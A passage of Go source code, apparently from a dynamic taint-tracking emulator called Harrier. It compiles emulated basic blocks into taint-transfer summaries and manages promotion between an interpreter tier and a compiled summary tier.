// value domain per register — unknown, a constant, or "entry value of
// register r plus offset" — mirroring the CPU's arithmetic exactly.
// Every memory operand whose address stays expressible as entry-reg +
// displacement compiles to that form; a block touching memory through
// a value the domain cannot express (e.g. a pointer loaded from
// memory) is unmodelable and pins to the interpreter tier. Taint
// flows, by contrast, need no symbolic treatment at all: applying the
// ops in program order against the live tag state reproduces the
// interpreter's sequence of reads, unions and writes verbatim.
//
// Correctness bar (enforced by TestTierDifferentialSweep and
// FuzzSummaryApply): detections and reported tag sets are
// bit-identical to the interpreter tier. Compile-time folding of
// adjacent unions is safe under that bar because tag interning is
// content-canonical — U(U(x,a),b) and U(x,U(a,b)) intern the same
// sorted source set and therefore render identical warnings.

// sumCode selects a summary op. The set mirrors the effects
// trackDataFlow can produce: register tag moves, shadow word/byte
// moves, and unions of either against a register, a load, or a
// compile-time tag.
type sumCode uint8

const (
	cRegSet       sumCode = iota // regtags[dst] = tag
	cRegCopy                     // regtags[dst] = regtags[src]
	cRegSetUnion                 // regtags[dst] = U(tag, regtags[src])
	cRegUnionReg                 // regtags[dst] = U(regtags[dst], regtags[src])
	cRegUnionTag                 // regtags[dst] = U(regtags[dst], tag)
	cRegLoadW                    // regtags[dst] = GetWord(eaB)
	cRegLoadB                    // regtags[dst] = Get(eaB)
	cRegUnionLoadW               // regtags[dst] = U(regtags[dst], GetWord(eaB))
	cStoreWReg                   // SetWord(eaA, regtags[src])
	cStoreWTag                   // SetWord(eaA, tag)
	cStoreBReg                   // Set(eaA, regtags[src])
	cStoreBTag                   // Set(eaA, tag)
	cMemUnionReg                 // SetWord(eaA, U(GetWord(eaA), regtags[src]))
	cMemUnionTag                 // SetWord(eaA, U(GetWord(eaA), tag))
	cMemUnionLoadW               // SetWord(eaA, U(GetWord(eaA), GetWord(eaB)))
	cMemCopyW                    // SetWord(eaA, GetWord(eaB))
	cMemCopyB                    // Set(eaA, Get(eaB))
)

var sumCodeNames = [...]string{
	cRegSet: "regset", cRegCopy: "regcopy", cRegSetUnion: "regsetunion",
	cRegUnionReg: "regunionreg", cRegUnionTag: "regumniontag",
	cRegLoadW: "regloadw", cRegLoadB: "regloadb", cRegUnionLoadW: "regunionloadw",
	cStoreWReg: "storewreg", cStoreWTag: "storewtag",
	cStoreBReg: "storebreg", cStoreBTag: "storebtag",
	cMemUnionReg: "memunionreg", cMemUnionTag: "memuniontag",
	cMemUnionLoadW: "memunionloadw", cMemCopyW: "memcopyw", cMemCopyB: "memcopyb",
}

// sumNoBase in a base slot marks an absolute address (disp only).
const sumNoBase = 0xFF

// sumOp is one summary op. Addresses are (entry register base, 32-bit
// displacement) pairs resolved against the register file as it stands
// at block entry; sumNoBase means absolute.
type sumOp struct {
	code         sumCode
	dst, src     uint8 // register slots (reg-target / reg-source ops)
	aBase, bBase uint8 // address bases: A = destination, B = source
	aDisp, bDisp uint32
	tag          taint.Tag // compile-time tag operand
}

func (op *sumOp) aAddr(c *isa.CPU) uint32 {
	if op.aBase != sumNoBase {
		return c.Regs[op.aBase] + op.aDisp
	}
	return op.aDisp
}

func (op *sumOp) bAddr(c *isa.CPU) uint32 {
	if op.bBase != sumNoBase {
		return c.Regs[op.bBase] + op.bDisp
	}
	return op.bDisp
}

func sumAddrString(base uint8, disp uint32) string {
	if base == sumNoBase {
		return fmt.Sprintf("[%#x]", disp)
	}
	return fmt.Sprintf("[%s+%#x]", isa.Reg(base), disp)
}

func (op *sumOp) String() string {
	var b strings.Builder
	b.WriteString(sumCodeNames[op.code])
	switch op.code {
	case cRegSet, cRegUnionTag:
		fmt.Fprintf(&b, " %s, tag%d", isa.Reg(op.dst), op.tag)
	case cRegCopy, cRegUnionReg:
		fmt.Fprintf(&b, " %s, %s", isa.Reg(op.dst), isa.Reg(op.src))
	case cRegSetUnion:
		fmt.Fprintf(&b, " %s, %s, tag%d", isa.Reg(op.dst), isa.Reg(op.src), op.tag)
	case cRegLoadW, cRegLoadB, cRegUnionLoadW:
		fmt.Fprintf(&b, " %s, %s", isa.Reg(op.dst), sumAddrString(op.bBase, op.bDisp))
	case cStoreWReg, cStoreBReg, cMemUnionReg:
		fmt.Fprintf(&b, " %s, %s", sumAddrString(op.aBase, op.aDisp), isa.Reg(op.src))
	case cStoreWTag, cStoreBTag, cMemUnionTag:
		fmt.Fprintf(&b, " %s, tag%d", sumAddrString(op.aBase, op.aDisp), op.tag)
	case cMemUnionLoadW, cMemCopyW, cMemCopyB:
		fmt.Fprintf(&b, " %s, %s", sumAddrString(op.aBase, op.aDisp), sumAddrString(op.bBase, op.bDisp))
	}
	return b.String()
}

// Summary is a compiled taint transfer function for one basic block.
// Harrier compiles and installs summaries itself at promotion time;
// the type is exported for the determinism property tests and
// tooling.
type Summary struct {
	ops   []sumOp
	nData uint64 // data-moving instructions the block carries
}

// NumOps returns the length of the compiled op list.
func (s *Summary) NumOps() int { return len(s.ops) }

// String renders the op list, one op per line — the canonical form
// the determinism property test compares.
func (s *Summary) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "ndata=%d\n", s.nData)
	for i := range s.ops {
		b.WriteString(s.ops[i].String())
		b.WriteByte('\n')
	}
	return b.String()
}

// CompileSummary compiles the basic block led by instruction `leader`
// of s into its taint transfer function, interning tags in st. It is
// deterministic: the same span, leader and store state yield the same
// op list. ok is false when the block is unmodelable (an address the
// symbolic domain cannot express, a degenerate operand shape that
// would fault mid-block, or a statically-zero divisor) — such blocks
// pin to the interpreter tier.
func CompileSummary(st *taint.Store, s *isa.Span, leader int) (*Summary, bool) {
	bin := st.Of(taint.Source{Type: taint.Binary, Name: s.Image})
	hw := st.Of(taint.Source{Type: taint.Hardware, Name: "cpuid"})
	return compileBlock(st, s, leader, bin, hw)
}

// Symbolic register values: the compiler's model of the concrete
// register file as a function of block-entry state.
type symKind uint8

const (
	symUnknown symKind = iota // unpredictable at entry (e.g. loaded)
	symConst                  // the constant off
	symRegOff                 // entry value of reg, plus off
)

type symVal struct {
	kind symKind
	reg  isa.Reg
	off  uint32
}

func symConstOf(v uint32) symVal { return symVal{kind: symConst, off: v} }

// sumCompiler walks one block, emitting ops and updating the symbolic
// register file in lockstep with the CPU's execution semantics.
type sumCompiler struct {
	st  *taint.Store
	bin taint.Tag
	hw  taint.Tag
	sym [isa.NumRegs]symVal
	ops []sumOp
}

func compileBlock(st *taint.Store, s *isa.Span, leader int, bin, hw taint.Tag) (*Summary, bool) {
	if leader < 0 || leader >= len(s.Instrs) || s.BBLeader[leader] != leader {
		return nil, false
	}
	sc := &sumCompiler{st: st, bin: bin, hw: hw}
	for r := range sc.sym {
		sc.sym[r] = symVal{kind: symRegOff, reg: isa.Reg(r)}
	}
	var nData uint64
	for i := leader; i < len(s.Instrs) && s.BBLeader[i] == leader; i++ {
		in := &s.Instrs[i]
		if in.Op.MovesData() {
			nData++
		}
		if !sc.instr(in) {
			return nil, false
		}
	}
	sc.elideDeadRegWrites()
	return &Summary{ops: sc.ops, nData: nData}, true
}

// regEffects classifies an op's register-tag accesses. Every
// dst-writing op has no observable effect besides that write (shadow
// reads leave tag state untouched), which is what makes dead-write
// elimination a pure deletion.
func regEffects(code sumCode) (writesDst, readsDst, readsSrc bool) {
	switch code {
	case cRegSet, cRegLoadW, cRegLoadB:
		return true, false, false
	case cRegCopy, cRegSetUnion:
		return true, false, true
	case cRegUnionReg:
		return true, true, true
	case cRegUnionTag, cRegUnionLoadW:
		return true, true, false
	case cStoreWReg, cStoreBReg, cMemUnionReg:
		return false, false, true
	}
	return false, false, false
}

// elideDeadRegWrites deletes register-tag writes that are overwritten
// before any read in the same block (a scratch register recomputed
// from constants every iteration, say). Intermediate tag values are
// unobservable — no syscall can fire mid-block because INT terminates
// blocks, and a mid-block fault kills the process without the monitor
// reading its registers — so only each register's final value and the
// shadow traffic are semantics; dropping the dead write changes
// neither.
func (sc *sumCompiler) elideDeadRegWrites() {
	n := len(sc.ops)
	if n == 0 {
		return
	}
	keep := make([]bool, n)
	live := uint32(1)<<isa.NumRegs - 1 // block exit: every register live
	for i := n - 1; i >= 0; i-- {
		op := &sc.ops[i]
		w, rd, rs := regEffects(op.code)
		if w && live&(1<<op.dst) == 0 {
			continue // overwritten before any read: drop
		}
		keep[i] = true
		if w {
			live &^= 1 << op.dst
		}
		if rd {
			live |= 1 << op.dst
		}
		if rs {
			live |= 1 << op.src
		}
	}
	kept := sc.ops[:0]
	for i := range sc.ops {
		if keep[i] {
			kept = append(kept, sc.ops[i])
		}
	}
	sc.ops = kept
}

// --- emission, with peephole fusion -------------------------------

// Fusion folds an op into an immediately preceding write of the same
// destination register. All folds preserve the resulting set content
// (union is associative/commutative and interning is canonical), so
// detections and rendered tag sets stay bit-identical; only the
// run-time union count shrinks.

func (sc *sumCompiler) emit(op sumOp) { sc.ops = append(sc.ops, op) }

func (sc *sumCompiler) lastRegOp(d uint8) *sumOp {
	if n := len(sc.ops); n > 0 {
		last := &sc.ops[n-1]
		if last.dst == d {
			switch last.code {
			case cRegSet, cRegCopy, cRegSetUnion, cRegUnionReg, cRegUnionTag,
				cRegLoadW, cRegLoadB, cRegUnionLoadW:
				return last
			}
		}
	}
	return nil
}

// emitRegUnionTag emits regtags[d] = U(regtags[d], t).
func (sc *sumCompiler) emitRegUnionTag(d uint8, t taint.Tag) {
	if last := sc.lastRegOp(d); last != nil {
		switch last.code {
		case cRegSet, cRegSetUnion, cRegUnionTag:
			last.tag = sc.st.Union(last.tag, t)
			return
		case cRegCopy:
			last.code = cRegSetUnion
			last.tag = t
			return
		}
	}
	sc.emit(sumOp{code: cRegUnionTag, dst: d, tag: t})
}

// emitRegUnionReg emits regtags[d] = U(regtags[d], regtags[s]).
func (sc *sumCompiler) emitRegUnionReg(d, s uint8) {
	if d == s {
		return // U(x, x) = x, and the interpreter's Union short-circuits
	}
	if last := sc.lastRegOp(d); last != nil && last.code == cRegSet {
		last.code = cRegSetUnion
		last.src = s
		return
	}
	sc.emit(sumOp{code: cRegUnionReg, dst: d, src: s})
}

// --- operand helpers ----------------------------------------------

// addrOf resolves a memory operand to (base, disp) against the entry
// register file, through the symbolic value of the operand's base.
func (sc *sumCompiler) addrOf(op *isa.Operand) (base uint8, disp uint32, ok bool) {
	if !op.HasBase {
		return sumNoBase, op.Imm, true
	}
	switch v := sc.sym[op.Reg]; v.kind {
	case symConst:
		return sumNoBase, v.off + op.Imm, true
	case symRegOff:
		return uint8(v.reg), v.off + op.Imm, true
	}
	return 0, 0, false
}

// stackAddr resolves ESP+delta the same way.
func (sc *sumCompiler) stackAddr(delta uint32) (base uint8, disp uint32, ok bool) {
	switch v := sc.sym[isa.ESP]; v.kind {
	case symConst:
		return sumNoBase, v.off + delta, true
	case symRegOff:
		return uint8(v.reg), v.off + delta, true
	}
	return 0, 0, false
}

// valueOf models ReadOperand: the 32-bit value a source operand
// denotes, as a symbolic value.
func (sc *sumCompiler) valueOf(op *isa.Operand) symVal {
	switch op.Kind {
	case isa.RegOperand:
		return sc.sym[op.Reg]
	case isa.ImmOperand:
		return symConstOf(op.Imm)
	}
	return symVal{} // memory load or empty operand: unknown
}

// --- per-instruction compilation ----------------------------------

// instr emits the taint ops of one instruction and advances the
// symbolic register file, returning false when the instruction is
// unmodelable. The emission mirrors dataflow.go case by case and the
// symbolic update mirrors CPU.Step case by case; both must stay in
// lockstep with those files.
func (sc *sumCompiler) instr(in *isa.Instr) bool {
	switch in.Op {
	case isa.MOV:
		return sc.mov(in, false)
	case isa.MOVB:
		return sc.mov(in, true)
	case isa.ADD, isa.SUB, isa.AND, isa.OR, isa.XOR,
		isa.MUL, isa.DIVOP, isa.MODOP, isa.SHL, isa.SHR:
		return sc.alu(in)
	case isa.LEA:
		return sc.lea(in)
	case isa.NOT, isa.NEG, isa.INC, isa.DEC:
		return sc.unary(in)
	case isa.PUSH:
		return sc.push(in)
	case isa.POP:
		return sc.pop(in)
	case isa.CALL:
		// The pushed return address is machine bookkeeping: the
		// interpreter clears its shadow word unconditionally. CALL ends
		// the block, so ESP's symbolic update is moot.
		base, disp, ok := sc.stackAddr(^uint32(3)) // ESP - 4
		if !ok {
			return false
		}
		sc.emit(sumOp{code: cStoreWTag, aBase: base, aDisp: disp, tag: taint.Empty})
		return true
	case isa.CPUID:
		for _, r := range [...]isa.Reg{isa.EAX, isa.EBX, isa.ECX, isa.EDX} {
			sc.emit(sumOp{code: cRegSet, dst: uint8(r), tag: sc.hw})
		}
		sc.sym[isa.EAX] = symConstOf(0x48544853)
		sc.sym[isa.EBX] = symConstOf(0x696D5543)
		sc.sym[isa.ECX] = symConstOf(0x756C6174)
		sc.sym[isa.EDX] = symConstOf(0x726F2121)
		return true
	case isa.RDTSC:
		sc.emit(sumOp{code: cRegSet, dst: uint8(isa.EAX), tag: sc.hw})
		sc.emit(sumOp{code: cRegSet, dst: uint8(isa.EDX), tag: sc.hw})
		sc.sym[isa.EAX] = symVal{}
		sc.sym[isa.EDX] = symVal{}
		return true
	case isa.CMP, isa.TEST, isa.NOP, isa.HLT,
		isa.JMP, isa.JZ, isa.JNZ, isa.JL, isa.JLE, isa.JG, isa.JGE,
		isa.RET, isa.INT, isa.NATIVE:
		// No tracked data flow, and no register writes the address
		// domain needs to model (RET/NATIVE end the block).
		return true
	}
	return false // undefined opcode: unmodelable
}

// mov compiles MOV (word) and MOVB (byte).
func (sc *sumCompiler) mov(in *isa.Instr, byteOp bool) bool {
	loadC, storeRegC, storeTagC, copyC := cRegLoadW, cStoreWReg, cStoreWTag, cMemCopyW
	if byteOp {
		loadC, storeRegC, storeTagC, copyC = cRegLoadB, cStoreBReg, cStoreBTag, cMemCopyB
	}
	var bBase uint8
	var bDisp uint32
	if in.B.Kind == isa.MemOperand {
		var ok bool
		if bBase, bDisp, ok = sc.addrOf(&in.B); !ok {
			return false
		}
	}
	switch in.A.Kind {
	case isa.RegOperand:
		d := uint8(in.A.Reg)
		switch in.B.Kind {
		case isa.RegOperand:
			if in.A.Reg != in.B.Reg {
				sc.emit(sumOp{code: cRegCopy, dst: d, src: uint8(in.B.Reg)})
			}
		case isa.ImmOperand:
			sc.emit(sumOp{code: cRegSet, dst: d, tag: sc.bin})
		case isa.MemOperand:
			sc.emit(sumOp{code: loadC, dst: d, bBase: bBase, bDisp: bDisp})
		default:
			return false
		}
	case isa.MemOperand:
		aBase, aDisp, ok := sc.addrOf(&in.A)
		if !ok {
			return false
		}
		switch in.B.Kind {
		case isa.RegOperand:
			sc.emit(sumOp{code: storeRegC, aBase: aBase, aDisp: aDisp, src: uint8(in.B.Reg)})
		case isa.ImmOperand:
			sc.emit(sumOp{code: storeTagC, aBase: aBase, aDisp: aDisp, tag: sc.bin})
		case isa.MemOperand:
			sc.emit(sumOp{code: copyC, aBase: aBase, aDisp: aDisp, bBase: bBase, bDisp: bDisp})
		default:
			return false
		}
	default:
		return false // write to an immediate faults mid-block
	}
	// Symbolic update: only a register destination changes the file.
	if in.A.Kind == isa.RegOperand {
		if byteOp {
			sc.sym[in.A.Reg] = sc.movbValue(in)
		} else {
			sc.sym[in.A.Reg] = sc.valueOf(&in.B)
		}
	}
	return true
}

// movbValue models writeOperand8: the destination keeps its upper
// bytes, so the result is computable only when both halves are.
func (sc *sumCompiler) movbValue(in *isa.Instr) symVal {
	old := sc.sym[in.A.Reg]
	src := sc.valueOf(&in.B)
	if in.B.Kind == isa.MemOperand {
		src = symVal{}
	}
	if old.kind == symConst && src.kind == symConst {
		return symConstOf((old.off &^ 0xFF) | (src.off & 0xFF))
	}
	return symVal{}
}

// alu compiles the two-operand arithmetic group.
func (sc *sumCompiler) alu(in *isa.Instr) bool {
	// Zeroing idioms drop taint (dataflow.go flowALU).
	zeroing := (in.Op == isa.XOR || in.Op == isa.SUB) &&
		in.A.Kind == isa.RegOperand && in.B.Kind == isa.RegOperand &&
		in.A.Reg == in.B.Reg
	if zeroing {
		sc.emit(sumOp{code: cRegSet, dst: uint8(in.A.Reg), tag: taint.Empty})
		sc.sym[in.A.Reg] = symConstOf(0)
		return true
	}
	if (in.Op == isa.DIVOP || in.Op == isa.MODOP) && sc.constZero(&in.B) {
		return false // statically faults mid-block
	}
	switch in.A.Kind {
	case isa.RegOperand:
		d := uint8(in.A.Reg)
		switch in.B.Kind {
		case isa.RegOperand:
			sc.emitRegUnionReg(d, uint8(in.B.Reg))
		case isa.ImmOperand:
			sc.emitRegUnionTag(d, sc.bin)
		case isa.MemOperand:
			bBase, bDisp, ok := sc.addrOf(&in.B)
			if !ok {
				return false
			}
			sc.emit(sumOp{code: cRegUnionLoadW, dst: d, bBase: bBase, bDisp: bDisp})
		default:
			return false
		}
		sc.sym[in.A.Reg] = sc.aluValue(in)
	case isa.MemOperand:
		aBase, aDisp, ok := sc.addrOf(&in.A)
		if !ok {
			return false
		}
		switch in.B.Kind {
		case isa.RegOperand:
			sc.emit(sumOp{code: cMemUnionReg, aBase: aBase, aDisp: aDisp, src: uint8(in.B.Reg)})
		case isa.ImmOperand:
			sc.emit(sumOp{code: cMemUnionTag, aBase: aBase, aDisp: aDisp, tag: sc.bin})
		case isa.MemOperand:
			bBase, bDisp, ok := sc.addrOf(&in.B)
			if !ok {
				return false
			}
			sc.emit(sumOp{code: cMemUnionLoadW, aBase: aBase, aDisp: aDisp, bBase: bBase, bDisp: bDisp})
		default:
			return false
		}
	default:
		return false // ALU into an immediate faults mid-block
	}
	return true
}

// constZero reports whether a source operand is statically zero.
func (sc *sumCompiler) constZero(op *isa.Operand) bool {
	if op.Kind == isa.ImmOperand {
		return op.Imm == 0
	}
	if op.Kind == isa.RegOperand {
		v := sc.sym[op.Reg]
		return v.kind == symConst && v.off == 0
	}
	return false
}

// aluValue models the ALU result for a register destination,
// mirroring the operator semantics in CPU.Step exactly.
func (sc *sumCompiler) aluValue(in *isa.Instr) symVal {
	a := sc.sym[in.A.Reg]
	b := sc.valueOf(&in.B)
	if in.B.Kind == isa.MemOperand {
		b = symVal{}
	}
	switch in.Op {
	case isa.ADD:
		if b.kind == symConst && a.kind != symUnknown {
			return symVal{kind: a.kind, reg: a.reg, off: a.off + b.off}
		}
		if a.kind == symConst && b.kind != symUnknown {
			return symVal{kind: b.kind, reg: b.reg, off: b.off + a.off}
		}
	case isa.SUB:
		if b.kind == symConst && a.kind != symUnknown {
			return symVal{kind: a.kind, reg: a.reg, off: a.off - b.off}
		}
		if a.kind == symRegOff && b.kind == symRegOff && a.reg == b.reg {
			return symConstOf(a.off - b.off)
		}
	default:
		if a.kind == symConst && b.kind == symConst {
			x, y := a.off, b.off
			switch in.Op {
			case isa.AND:
				return symConstOf(x & y)
			case isa.OR:
				return symConstOf(x | y)
			case isa.XOR:
				return symConstOf(x ^ y)
			case isa.MUL:
				return symConstOf(x * y)
			case isa.DIVOP:
				if y != 0 {
					return symConstOf(x / y)
				}
			case isa.MODOP:
				if y != 0 {
					return symConstOf(x % y)
				}
			case isa.SHL:
				return symConstOf(x << (y & 31))
			case isa.SHR:
				return symConstOf(x >> (y & 31))
			}
		}
	}
	return symVal{}
}

// lea compiles LEA: the loaded value is an address, tagged BINARY
// unioned with the base register's tag.
func (sc *sumCompiler) lea(in *isa.Instr) bool {
	if in.B.Kind != isa.MemOperand {
		return false // the CPU faults: lea requires a memory source
	}
	switch in.A.Kind {
	case isa.RegOperand:
		d := uint8(in.A.Reg)
		if in.B.HasBase {
			if in.A.Reg == in.B.Reg {
				sc.emitRegUnionTag(d, sc.bin)
			} else {
				sc.emit(sumOp{code: cRegSetUnion, dst: d, src: uint8(in.B.Reg), tag: sc.bin})
			}
		} else {
			sc.emit(sumOp{code: cRegSet, dst: d, tag: sc.bin})
		}
		// The symbolic value is the effective address itself.
		if in.B.HasBase {
			switch v := sc.sym[in.B.Reg]; v.kind {
			case symConst:
				sc.sym[in.A.Reg] = symConstOf(v.off + in.B.Imm)
			case symRegOff:
				sc.sym[in.A.Reg] = symVal{kind: symRegOff, reg: v.reg, off: v.off + in.B.Imm}
			default:
				sc.sym[in.A.Reg] = symVal{}
			}
		} else {
			sc.sym[in.A.Reg] = symConstOf(in.B.Imm)
		}
		return true
	}
	// A memory (or worse) destination writes no taint but the
	// interpreter still performs a union for the stats stream, and an
	// immediate destination faults mid-block: pin both.
	return false
}

// unary compiles NOT/NEG (tag-preserving) and INC/DEC (union BINARY).
func (sc *sumCompiler) unary(in *isa.Instr) bool {
	incdec := in.Op == isa.INC || in.Op == isa.DEC
	switch in.A.Kind {
	case isa.RegOperand:
		if incdec {
			sc.emitRegUnionTag(uint8(in.A.Reg), sc.bin)
		}
		// NOT/NEG on a register preserve its tag: no op at all.
	case isa.MemOperand:
		aBase, aDisp, ok := sc.addrOf(&in.A)
		if !ok {
			return false
		}
		if incdec {
			sc.emit(sumOp{code: cMemUnionTag, aBase: aBase, aDisp: aDisp, tag: sc.bin})
		} else {
			// GetWord+SetWord on the same address uniformizes the word's
			// four byte tags — not a no-op on byte-granular pages.
			sc.emit(sumOp{code: cMemCopyW, aBase: aBase, aDisp: aDisp, bBase: aBase, bDisp: aDisp})
		}
	default:
		return false // faults mid-block
	}
	if in.A.Kind == isa.RegOperand {
		a := sc.sym[in.A.Reg]
		switch {
		case in.Op == isa.INC && a.kind != symUnknown:
			sc.sym[in.A.Reg] = symVal{kind: a.kind, reg: a.reg, off: a.off + 1}
		case in.Op == isa.DEC && a.kind != symUnknown:
			sc.sym[in.A.Reg] = symVal{kind: a.kind, reg: a.reg, off: a.off - 1}
		case a.kind == symConst && in.Op == isa.NOT:
			sc.sym[in.A.Reg] = symConstOf(^a.off)
		case a.kind == symConst && in.Op == isa.NEG:
			sc.sym[in.A.Reg] = symConstOf(-a.off)
		default:
			sc.sym[in.A.Reg] = symVal{}
		}
	}
	return true
}

// push compiles PUSH: the source tag lands in the word below ESP.
func (sc *sumCompiler) push(in *isa.Instr) bool {
	base, disp, ok := sc.stackAddr(^uint32(3)) // ESP - 4
	if !ok {
		return false
	}
	switch in.A.Kind {
	case isa.RegOperand:
		sc.emit(sumOp{code: cStoreWReg, aBase: base, aDisp: disp, src: uint8(in.A.Reg)})
	case isa.ImmOperand:
		sc.emit(sumOp{code: cStoreWTag, aBase: base, aDisp: disp, tag: sc.bin})
	case isa.MemOperand:
		bBase, bDisp, ok := sc.addrOf(&in.A)
		if !ok {
			return false
		}
		sc.emit(sumOp{code: cMemCopyW, aBase: base, aDisp: disp, bBase: bBase, bDisp: bDisp})
	default:
		return false
	}
	sc.adjustESP(^uint32(3)) // ESP -= 4
	return true
}

// pop compiles POP: the word at ESP moves into the destination.
func (sc *sumCompiler) pop(in *isa.Instr) bool {
	base, disp, ok := sc.stackAddr(0)
	if !ok {
		return false
	}
	switch in.A.Kind {
	case isa.RegOperand:
		sc.emit(sumOp{code: cRegLoadW, dst: uint8(in.A.Reg), bBase: base, bDisp: disp})
	case isa.MemOperand:
		aBase, aDisp, ok := sc.addrOf(&in.A)
		if !ok {
			return false
		}
		sc.emit(sumOp{code: cMemCopyW, aBase: aBase, aDisp: aDisp, bBase: base, bDisp: disp})
	default:
		return false // faults mid-block after the shadow read
	}
	// pop() bumps ESP before the destination write lands.
	sc.adjustESP(4)
	if in.A.Kind == isa.RegOperand {
		sc.sym[in.A.Reg] = symVal{} // loaded from memory
	}
	return true
}

// adjustESP adds delta to the symbolic stack pointer.
func (sc *sumCompiler) adjustESP(delta uint32) {
	if v := sc.sym[isa.ESP]; v.kind != symUnknown {
		sc.sym[isa.ESP] = symVal{kind: v.kind, reg: v.reg, off: v.off + delta}
	}
}

// applyOps executes a compiled op list against the live tag state.
// This is the tier-1 hot loop: a dense switch the compiler turns into
// a jump table, no per-op sampling or statistics.
func (h *Harrier) applyOps(c *isa.CPU, ops []sumOp) {
	sh := c.Shadow
	st := h.Store
	for i := range ops {
		op := &ops[i]
		switch op.code {
		case cRegSet:
			c.RegTags[op.dst] = op.tag
		case cRegCopy:
			c.RegTags[op.dst] = c.RegTags[op.src]
		case cRegSetUnion:
			c.RegTags[op.dst] = st.Union(op.tag, c.RegTags[op.src])
		case cRegUnionReg:
			c.RegTags[op.dst] = st.Union(c.RegTags[op.dst], c.RegTags[op.src])
		case cRegUnionTag:
			c.RegTags[op.dst] = st.Union(c.RegTags[op.dst], op.tag)
		case cRegLoadW:
			c.RegTags[op.dst] = sh.GetWord(op.bAddr(c))
		case cRegLoadB:
			c.RegTags[op.dst] = sh.Get(op.bAddr(c))
		case cRegUnionLoadW:
			t := sh.GetWord(op.bAddr(c))
			c.RegTags[op.dst] = st.Union(c.RegTags[op.dst], t)
		case cStoreWReg:
			sh.SetWord(op.aAddr(c), c.RegTags[op.src])
		case cStoreWTag:
			sh.SetWord(op.aAddr(c), op.tag)
		case cStoreBReg:
			sh.Set(op.aAddr(c), c.RegTags[op.src])
		case cStoreBTag:
			sh.Set(op.aAddr(c), op.tag)
		case cMemUnionReg:
			ea := op.aAddr(c)
			sh.SetWord(ea, st.Union(sh.GetWord(ea), c.RegTags[op.src]))
		case cMemUnionTag:
			ea := op.aAddr(c)
			sh.SetWord(ea, st.Union(sh.GetWord(ea), op.tag))
		case cMemUnionLoadW:
			ea := op.aAddr(c)
			ta := sh.GetWord(ea)
			tb := sh.GetWord(op.bAddr(c))
			sh.SetWord(ea, st.Union(ta, tb))
		case cMemCopyW:
			t := sh.GetWord(op.bAddr(c))
			sh.SetWord(op.aAddr(c), t)
		case cMemCopyB:
			t := sh.Get(op.bAddr(c))
			sh.Set(op.aAddr(c), t)
		}
	}
}
