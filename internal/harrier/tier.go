package harrier

import (
	"repro/internal/isa"
	"repro/internal/obs"
	"repro/internal/vos"
)

// Tier state machine. Every block starts in the interpreter tier
// (per-instruction Hooks.OnInstr dispatch). When its frequency
// counter — the one Collect_BB_Frequency already maintains — reaches
// Config.PromoteThreshold, the block is compiled once:
//
//   - compilable  -> a *blockSummary lands in the span's summary slot
//     and subsequent entries take the Hooks.OnBBSummary fast path;
//   - unmodelable -> a tierPinned marker lands in the slot, recording
//     that compilation was attempted and must not be retried: the
//     block stays in the interpreter tier permanently.
//
// Demotion happens on execve: the process's code map is about to be
// torn down, so PreExec drops every summary installed on its spans
// (spans can be shared with a forked parent, which simply re-promotes
// on its next hot entry — the trigger fires whenever the counter is
// past the threshold and the slot is empty). Exited processes need no
// demotion: their spans die with them, and spans shared with live
// relatives remain valid because spans are immutable.

// tierPinned marks a block whose compilation failed: permanently
// interpreter-tier, never recompiled (until the slot is dropped).
type tierPinned struct{}

// blockSummary is an installed summary plus the apply-time context
// that lets the fast path skip collectBBFrequency entirely: the
// block's frequency counter, its attribution key, and whether it
// belongs to the application image.
type blockSummary struct {
	Summary
	owner *Harrier
	ctr   *int64
	key   bbKey
	isApp bool
}

// maybePromote is the tier transition, called from collectBBFrequency
// once the counter passes the threshold and the slot is empty.
// Out of line: the interpreter tier pays one compare per block entry.
//
//go:noinline
func (h *Harrier) maybePromote(c *isa.CPU, s *isa.Span, leader int, key bbKey, ctr *int64) {
	sum, ok := compileBlock(h.Store, s, leader, h.binTag(s.Image), h.hwTag)
	if !ok {
		s.SetBBSummary(leader, tierPinned{})
		h.stats.TierPinned++
		return
	}
	p := c.Ctx.(*vos.Process)
	s.SetBBSummary(leader, &blockSummary{
		Summary: *sum,
		owner:   h,
		ctr:     ctr,
		key:     key,
		isApp:   s.Image == p.Path,
	})
	h.stats.TierPromoted++
	if h.bus != nil {
		h.bus.Publish(obs.Event{
			Time: p.OS.Clock, Layer: obs.LayerHarrier, Kind: obs.KindBBPromote,
			PID: int32(p.PID), Num: uint64(key.addr), Num2: uint64(len(sum.ops)),
			Str: key.image,
		})
	}
}

// onBBSummary is the Hooks.OnBBSummary handler: the whole-block fast
// path. It reproduces exactly what one interpreter-tier traversal of
// the block performs — the frequency count, the last-app attribution,
// the instrumented-instruction statistics with their sampling
// boundary, and the taint transfer — then reports acceptance so the
// fetch loop suppresses OnBB/OnInstr for the block.
func (h *Harrier) onBBSummary(c *isa.CPU, s *isa.Span, leader int, summary any) bool {
	sum, ok := summary.(*blockSummary)
	if !ok || sum.owner != h || c.Shadow == nil {
		return false
	}
	h.stats.Blocks++
	h.stats.TierHits++
	ctr := sum.ctr
	*ctr++
	if h.prov != nil {
		// Same execution point as the interpreter tier's scan (block
		// entry, before any of the block's transfers apply), so the
		// attribution stream is tier-independent up to the tier flag.
		p := c.Ctx.(*vos.Process)
		h.provBlockScan(c, p.OS.Clock, int32(p.PID), sum.key.addr, sum.key.image, true)
	}
	if h.bus != nil && uint64(*ctr)&(bbRollQuantum-1) == 0 {
		h.publishBBRoll(c, sum, *ctr)
	}
	if sum.isApp {
		p := c.Ctx.(*vos.Process)
		if p.PID != h.appCachePID {
			h.flushApp()
			h.appCachePID = p.PID
		}
		h.appCacheKey = sum.key
	}
	// Batch-increment the instrumented-instruction counter; publish a
	// taint sample whenever the batch crosses the same quantum boundary
	// the per-instruction increment would have hit.
	old := h.stats.Instructions
	h.stats.Instructions = old + sum.nData
	if h.bus != nil && old>>taintSampleShift != h.stats.Instructions>>taintSampleShift {
		h.publishTaintSample(c)
	}
	h.applyOps(c, sum.ops)
	return true
}

// publishBBRoll emits the rollover event for a summary-tier counter;
// out of line to keep the accept path lean.
//
//go:noinline
func (h *Harrier) publishBBRoll(c *isa.CPU, sum *blockSummary, n int64) {
	p := c.Ctx.(*vos.Process)
	h.bus.Publish(obs.Event{
		Time: p.OS.Clock, Layer: obs.LayerHarrier, Kind: obs.KindBBRoll,
		PID: int32(p.PID), Num: uint64(sum.key.addr), Num2: uint64(n),
		Str: sum.key.image,
	})
}

// PreExec implements vos.PreExecMonitor: execve is about to tear down
// p's code map, so every summary compiled against its spans is
// dropped. Summaries owned by this Harrier count as demotions; pinned
// markers are dropped too (a span surviving via a forked relative may
